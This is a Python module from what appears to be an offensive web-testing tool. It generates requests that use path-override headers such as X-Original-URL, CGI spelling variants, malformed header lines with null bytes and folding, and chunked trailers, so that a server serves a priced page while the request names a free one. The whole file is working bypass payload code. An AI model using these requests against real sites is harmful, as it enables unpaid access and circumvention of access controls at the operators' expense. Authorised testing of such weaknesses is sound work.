"""Headers that name another target.

Frameworks take the path from a header that a proxy of theirs would have set: `X-Original-URL`, `X-Rewrite-URL` and others.
The server sees a free page in the request line, the site serves the priced one. Sites behind CGI read a header in every
spelling that becomes the same variable: with `_`, and with some servers any character that is no letter.
"""

from collections.abc import Iterator

from core.attack import Attack, Try
from core.scene import Scene
from core.target import WAYS

NAMES = [b"X-Original-URL", b"X-Rewrite-URL", b"X-Original-URI", b"X-Forwarded-Uri", b"X-Forwarded-Path", b"X-Replaced-Path",
         b"X-Envoy-Original-Path", b"X-Request-Uri", b"X-Matched-Path", b"X-Invoke-Path", b"X-HTTP-DestinationURL"]  # fmt: skip


def tries(scene: Scene) -> Iterator[Try]:
    free = scene.target.free_path or b"/"
    path = scene.target.path
    for way in WAYS:
        for name in NAMES:
            for spelled in spellings_of(name):
                yield scene.unpaid(f"{way.value} {spelled!r}", way, free, headers=[(spelled, path)])
            url = b"http://" + scene.target.host + path
            for headers in ([(name, b"/x"), (name, path)], [(name, path), (name, b"/x")], [(name, url)]):
                yield scene.unpaid(f"{way.value} {headers!r}", way, free, headers=headers)
            for asked in (b"/", path + b"/x", b"/nothing"):
                yield scene.unpaid(f"{way.value} {name!r} from {asked!r}", way, asked, headers=[(name, path)])
    for name in NAMES:
        for line in (b"%s : %s", b" %s: %s", b"%s\t: %s", b"X: y\r\n %s: %s", b"X: y\n%s: %s", b"X: y\r%s: %s",
            b"X: \0\r\n%s: %s",
                     b"\0%s: %s", b"%s\0: %s", b"%s\x0b: %s", b"%s:\0%s", b"(%s): %s", b'"%s": %s'):  # fmt: skip
            head = b"GET %s HTTP/1.1\r\nHost: %s\r\nX-Try: {mark}\r\nConnection: close\r\n%s\r\n\r\n"
            yield scene.raw(f"the line {line!r} for {name!r}", head % (free, scene.target.host, line % (name, path)), b"GET")
    for name in NAMES:
        body = b"0\r\n%s: %s\r\nX-Try: {mark}\r\n\r\n" % (name, path)
        head = b"POST %s HTTP/1.1\r\nHost: %s\r\nX-Try: {mark}\r\nTrailer: %s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        yield scene.raw(f"{name!r} as a trailer", head % (free, scene.target.host, name) + body, b"POST")


def spellings_of(name: bytes) -> list[bytes]:
    """A header's name as CGI and its heirs may read it: `-` may be anything that is no letter or digit."""
    others = b"_.!#$%&'*+^`|~"
    found = [name, name.upper(), name.lower(), name.replace(b"-", b"_")]
    found += [name.replace(b"-", bytes([other])) for other in others]
    first, _, rest = name.partition(b"-")
    found += [first + b"_" + rest, first + b"-" + rest.replace(b"-", b"_"), first + b"." + rest]
    return list(dict.fromkeys(found))


ATTACK = Attack("overrides", 5, "headers that name another target", tries, origins=frozenset({"plain", "overrides"}))
